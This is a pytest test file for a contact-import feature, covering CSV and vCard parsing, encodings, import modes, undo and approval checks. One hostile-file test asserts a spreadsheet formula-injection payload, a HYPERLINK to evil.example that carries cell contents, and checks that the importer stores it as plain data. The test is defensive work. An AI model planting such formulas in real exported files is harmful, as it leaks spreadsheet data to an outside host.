"""Importing contacts from real-world CSV and vCard files, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from sqlalchemy import select

from righthand.duties.lists.importer import ImportOptions, parse_file
from righthand.errors import BadInput, NotFound
from righthand.policy.autonomy import Autonomy
from righthand.service import approvals, undo, workspaces
from righthand.store.tables import Approval, ImportJob, Workspace
from tests.conftest import new_workspace
from tests.support.contacts import (
    contact,
    count_contacts,
    fixture,
    import_bytes,
    make_list,
    propose,
    state_on,
)


def test_outlook_export_in_cp1252(app):
    ws = new_workspace(app)
    job, action = import_bytes(app, ws, fixture("outlook_cp1252.csv"), "outlook_cp1252.csv")
    assert action.state == "done" and action.kind == "contacts.import"
    assert job.status == "done" and (job.created, job.updated, job.invalid) == (3, 0, 0)
    assert job.report["encoding"] == "cp1252" and job.report["delimiter"] == ","
    zoe = contact(app, ws, "zoe.mueller@example.de")
    assert zoe["display_name"] == "Zoë Müller" and zoe["company"] == "Müller & Söhne GmbH"
    assert [a for a, _ in zoe["emails"]] == ["zoe.mueller@example.de", "zoe@privat.example.org"]
    assert {(p["e164"], p["label"]) for p in zoe["phones"]} == {("+49891234567", "work"),
                                                                ("+4915123456789", "mobile")}
    assert zoe["postal_address"]["street"] == "Königstraße 12"
    assert zoe["tags"] == ["Kunde", "VIP"]
    assert zoe["notes"] == "Met at the Messe \u2013 prefers \u201cformal\u201d letters."
    assert zoe["attributes"]["job_title"] == "Geschäftsführerin"
    assert "Birthday" not in zoe["attributes"]  # Outlook's empty 0/0/00 is not a birthday
    assert "Sensitivity" not in zoe["attributes"] and "Priority" not in zoe["attributes"]
    jose = contact(app, ws, "jose@garcialaw.example")
    assert jose["postal_address"]["locality"] == "Boston"  # the work address wins
    assert jose["attributes"]["home address"].startswith("12 Elm Street, Cambridge")
    renee = contact(app, ws, "renee.dupre@example.fr")
    # A French number read with the client's US default is kept as entered, not mis-coded.
    assert renee["phones"] == [{"raw": "06 12 34 56 78", "e164": None, "label": "mobile"}]
    assert renee["attributes"]["User 1"] == "met at trade fair"


def test_google_contacts_export(app):
    ws = new_workspace(app)
    job, _ = import_bytes(app, ws, fixture("google.csv"), "google.csv")
    assert (job.created, job.invalid) == (3, 0)
    dev = contact(app, ws, "dev.patel@firstharbor.example")
    assert dev["emails"] == [("dev.patel@firstharbor.example", "work"),
                             ("dev@home.example", "home")]
    assert [p["e164"] for p in dev["phones"]] == ["+16175550181", "+16175550182",
                                                  "+16175550100"]
    assert dev["tags"] == ["Lenders"]  # Google's '* myContacts' is not a tag
    assert dev["company"] == "First Harbor Bank" and dev["notes"] == "Jones financing"
    assert dev["postal_address"] == {"street": "100 Harbor St", "locality": "Boston",
                                     "region": "MA", "postal_code": "02110", "country": "US"}
    liam = contact(app, ws, "liam.nguyen@example.com")
    assert liam["notes"] == "Looking for a 3-bed, near schools" and liam["tags"] == ["Leads"]


@pytest.mark.parametrize("name, encoding, delimiter, address, display", [
    ("excel_semicolon_latin1.csv", "cp1252", ";", "juergen.gross@example.de", "Jürgen Groß"),
    ("semicolon_utf8.csv", "utf-8", ";", "lukasz@example.pl", "Łukasz Żółć"),
    ("excel_unicode_utf16.txt", "utf-16", "\t", "xiaoming@example.cn", "王小明"),
])
def test_encodings_and_delimiters_are_detected(single_app, name, encoding, delimiter, address,
                                               display):
    ws = new_workspace(single_app)
    job, _ = import_bytes(single_app, ws, fixture(name), name)
    assert (job.report["encoding"], job.report["delimiter"]) == (encoding, delimiter)
    assert job.invalid == 0 and job.created == 2
    assert contact(single_app, ws, address)["display_name"] == display


def test_hostile_file_keeps_every_row_one_way_or_the_other(app):
    ws = new_workspace(app)
    job, action = import_bytes(app, ws, fixture("hostile.csv"), "hostile.csv")
    assert action.state == "done"
    assert job.created + job.invalid == job.total == 13 - 2  # two rows are wholly empty
    reasons = dict(job.report["invalid_reasons"])
    assert "longer than 200 characters" in reasons["5"]
    assert "9 cells but the header has 7" in reasons["7"]
    assert "no name, email address or phone number" in reasons["12"]
    assert "not an IANA time zone" in reasons["13"]
    assert "not valid" in reasons["14"]
    eve = contact(app, ws, "eve@example.com")
    # Stored exactly as given: it is data. Only exports neutralise it.
    assert eve["company"] == '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    assert eve["notes"] == "=1+2" and eve["tags"] == ["@SUM(A1:A9)"]
    long_notes = contact(app, ws, "long.notes@example.com")
    assert len(long_notes["notes"]) == 10_000
    assert contact(app, ws, "short.row@example.com")["display_name"] == "Short Row"
    assert contact(app, ws, "multi.line@example.com")["notes"] == "line one\nline two"

    rows = list(csv.reader(io.StringIO(job.invalid_rows)))
    assert rows[0] == ["row", "reason", "name", "email", "phone", "company", "notes", "tags",
                       "timezone"]
    by_row = {r[0]: r for r in rows[1:]}
    assert set(by_row) == {"5", "7", "12", "13", "14"}
    assert by_row["5"][2] == "A" * 10_000  # nothing lost, even the 10,000-character name
    assert by_row["7"][-2:] == ["unexpected", "cells"]


def test_unreadable_files_say_what_to_do(single_app):
    ws = new_workspace(single_app)
    with pytest.raises(BadInput) as excel:
        import_bytes(single_app, ws, fixture("workbook.xlsx"), "workbook.xlsx")
    assert "Excel" in excel.value.message and "CSV" in excel.value.hint
    with pytest.raises(BadInput) as unknown:
        import_bytes(single_app, ws, fixture("unmappable.csv"), "unmappable.csv")
    assert "'foo', 'bar', 'baz'" in unknown.value.message and "--map" in unknown.value.hint
    with pytest.raises(BadInput, match="empty"):
        import_bytes(single_app, ws, b"\xef\xbb\xbf\r\n", "empty.csv")
    with pytest.raises(BadInput, match="no column 'Mail'"):
        import_bytes(single_app, ws, fixture("google.csv"), "google.csv", mapping=["Mail=email"])
    with pytest.raises(BadInput, match="not a contact field"):
        import_bytes(single_app, ws, fixture("google.csv"), "google.csv",
                     mapping=["Labels=colour"])
    with pytest.raises(NotFound, match="no list called"):
        import_bytes(single_app, ws, fixture("google.csv"), "google.csv", list_name="nope")
    assert count_contacts(single_app, ws) == 0


def test_column_mapping_overrides_the_guess(single_app):
    ws = new_workspace(single_app)
    data = b"Who,Reach me at,Cell,Misc\nJo Bloggs,jo@example.com,617 555 0101,x\n"
    job, _ = import_bytes(single_app, ws, data, "custom.csv",
                          mapping=["Who=name", "Reach me at=email", "Cell=phone:work",
                                   "Misc=ignore"])
    assert job.report["columns"] == {"Who": "name", "Reach me at": "email",
                                     "Cell": "phone:work", "Misc": "ignore"}
    jo = contact(single_app, ws, "jo@example.com")
    assert (jo["given_name"], jo["family_name"]) == ("Jo", "Bloggs")
    assert jo["phones"][0]["label"] == "work" and jo["attributes"] is None


def test_phones_only_file(single_app):
    ws = new_workspace(single_app)
    job, _ = import_bytes(single_app, ws, fixture("phones_only.csv"), "phones_only.csv")
    assert job.created == 2
    again, _ = import_bytes(single_app, ws, fixture("phones_only.csv"), "phones_only.csv")
    assert (again.created, again.skipped) == (0, 2)  # matched by E.164 number


def test_vcards_3_and_4_and_old_21(app):
    ws = new_workspace(app)
    job, _ = import_bytes(app, ws, fixture("apple_v3.vcf"), "apple_v3.vcf")
    assert job.kind == "contacts-vcard" and (job.created, job.invalid) == (3, 2)
    assert job.report["not_imported"] == {"photo": 1}
    olivia = contact(app, ws, "olivia@brownarchitects.example")
    assert olivia["display_name"] == "Dr. Olivia Brown" and olivia["given_name"] == "Olivia"
    assert olivia["emails"][1] == ("olivia.brown@example.com", "home")
    assert olivia["postal_address"]["street"] == "22 Beacon St\nSuite 4"
    assert olivia["notes"].startswith("Past client (2021). Prefers email, not calls.")
    assert "that the line has to be folded" in olivia["notes"]
    assert olivia["attributes"]["job_title"] == "Principal"
    assert olivia["tags"] == ["past client", "architect"]
    invalid = list(csv.reader(io.StringIO(job.invalid_rows)))
    assert invalid[0] == ["card", "reason", "vcard"]
    assert "broken@@example" in invalid[1][2]

    job4, _ = import_bytes(app, ws, fixture("rfc6350_v4.vcf"), "rfc6350_v4.vcf")
    assert (job4.created, job4.invalid) == (2, 0)
    simon = contact(app, ws, "simon.perreault@viagenie.ca")
    assert simon["timezone"] == "America/Toronto"
    assert simon["phones"][0] == {"raw": "+1-418-656-9254 ext. 102", "e164": "+14186569254",
                                  "label": "work"}
    assert contact(app, ws, "zoe@example.se")["notes"] == "Stockholm office\nsecond line"

    job21, _ = import_bytes(app, ws, fixture("outlook_v21.vcf"), "outlook_v21.vcf",
                            region="FR")
    assert (job21.created, job21.invalid) == (1, 0)
    francois = contact(app, ws, "francois.lefevre@example.fr")
    assert francois["display_name"] == "François Lefèvre"
    assert francois["company"] == "Société Générale"
    assert francois["notes"] == "Rencontré au salon\nDeuxième ligne, très longue à plier"
    assert [p["label"] for p in francois["phones"]] == ["work", "mobile"]


def test_modes_add_update_skip(app):
    ws = new_workspace(app)
    first = b"name,email,company,notes,city\nBob Chen,bob@example.net,,first note,Boston\n"
    import_bytes(app, ws, first, "one.csv")
    second = (b"name,email,company,notes,phone,tags\n"
              b"Robert Chen,BOB@example.net,Chen & Co,second note,617 555 0199,buyer\n"
              b"Nora New,nora@example.com,,,,\n")

    skip, _ = import_bytes(app, ws, second, "two.csv", mode="skip")
    assert (skip.created, skip.updated, skip.skipped) == (1, 0, 1)
    assert contact(app, ws, "bob@example.net")["company"] is None

    add, _ = import_bytes(app, ws, second, "two.csv", mode="add")
    assert (add.created, add.updated, add.skipped) == (0, 1, 1)  # Nora has nothing new
    bob = contact(app, ws, "bob@example.net")
    assert bob["display_name"] == "Bob Chen" and bob["notes"] == "first note"  # kept
    assert bob["company"] == "Chen & Co" and bob["tags"] == ["buyer"]  # gaps filled
    assert bob["phones"][0]["e164"] == "+16175550199"

    update, _ = import_bytes(app, ws, second, "two.csv", mode="update")
    assert (update.created, update.updated) == (0, 1)
    bob = contact(app, ws, "bob@example.net")
    assert bob["display_name"] == "Robert Chen" and bob["notes"] == "second note"
    assert bob["postal_address"]["locality"] == "Boston"  # the file had no address: kept
    assert len(bob["phones"]) == 1 and bob["tags"] == ["buyer"]  # nothing doubled


def test_undo_of_an_import(app, clock):
    ws = new_workspace(app)
    newsletter = make_list(app, ws)
    import_bytes(app, ws, b"name,email,company\nBob Chen,bob@example.net,Old Co\n", "one.csv")
    data = (b"name,email,company,tags\nBob Chen,bob@example.net,New Co,buyer\n"
            b"Ann Able,ann@example.com,,\nCid Cole,cid@example.com,,\n")
    job, action = import_bytes(app, ws, data, "two.csv", mode="update", list_name="newsletter")
    assert (job.created, job.updated) == (2, 1)
    assert state_on(app, ws, newsletter, "bob@example.net") == "confirmed"

    clock.advance(hours=1)
    from righthand.duties.lists.subscriptions import unsubscribe_address

    with app.db.unit(ws) as session:  # Cid unsubscribes after the import
        unsubscribe_address(session, ws, newsletter, "cid@example.com", "one-click",
                            clock())
    with app.db.unit(ws) as session:
        message = undo.undo(session, app.registry, action.id, clock())
    assert "removed 1 contacts" in message and "restored 1" in message and "Kept 1" in message
    assert contact(app, ws, "ann@example.com") is None
    cid = contact(app, ws, "cid@example.com")  # kept: forgetting him would forget his opt-out
    assert cid["lists"][0]["state"] == "unsubscribed"
    bob = contact(app, ws, "bob@example.net")
    assert bob["company"] == "Old Co" and bob["tags"] == [] and bob["lists"] == []
    with app.db.unit(ws, write=False) as session:
        assert session.get(ImportJob, job.id).status == "undone"


def test_the_report_exists_while_the_import_waits_for_approval(app):
    ws = new_workspace(app)
    with app.db.unit(ws) as session:
        workspace = session.get(Workspace, ws)
        job_description = workspaces.job_description(session, workspace)
        setting = replace(job_description.setting("lists.maintain"), autonomy=Autonomy.ASK)
        workspaces.set_duty(session, workspace, "lists.maintain", setting, app.catalog,
                            app.clock())
    job, action = import_bytes(app, ws, fixture("hostile.csv"), "hostile.csv")
    assert action.state == "awaiting_approval" and job.status == "prepared"
    assert job.invalid == 5 and "reason" in job.invalid_rows.splitlines()[0]
    assert action.payload["sha256"] == job.report["sha256"]
    assert action.payload["mapping"]["email"] == "email"
    assert count_contacts(app, ws) == 0
    with app.db.unit(ws) as session:
        approval = session.scalars(select(Approval).where(Approval.action_id == action.id)).one()
        workspace = session.get(Workspace, ws)
        approvals.approve(session, approval.id, workspaces.job_description(session, workspace),
                          app.catalog, app.clock())
    app.dispatcher().run_once(only=[action.id])
    assert count_contacts(app, ws) == 6


def test_a_job_cannot_be_applied_twice_or_tampered_with(single_app):
    ws = new_workspace(single_app)
    job, action = import_bytes(single_app, ws, b"name,email\nA B,a@example.com\n", "a.csv")
    from righthand.domain.actions import Action

    again = propose(single_app, ws, Action(duty="lists.maintain", kind="contacts.import",
                                         payload=action.payload, summary="again",
                                         undoable=True))
    assert again.state == "failed"
    forged = dict(action.payload, sha256="0" * 64)
    with single_app.db.unit(ws) as session:
        fresh = session.get(ImportJob, job.id)
        fresh.status = "prepared"
    tampered = propose(single_app, ws, Action(duty="lists.maintain", kind="contacts.import",
                                            payload=forged, summary="forged", undoable=True))
    assert tampered.state == "failed"


def test_parse_only_needs_no_database():
    parsed = parse_file(fixture("google.csv"), "google.csv", ImportOptions(region="US"))
    assert parsed.count == 3 and parsed.report["delimiter"] == ","
    assert [c.display_name for c in parsed.contacts()] == ["Dev Patel", "Emma Wilson",
                                                           "Liam Nguyen"]
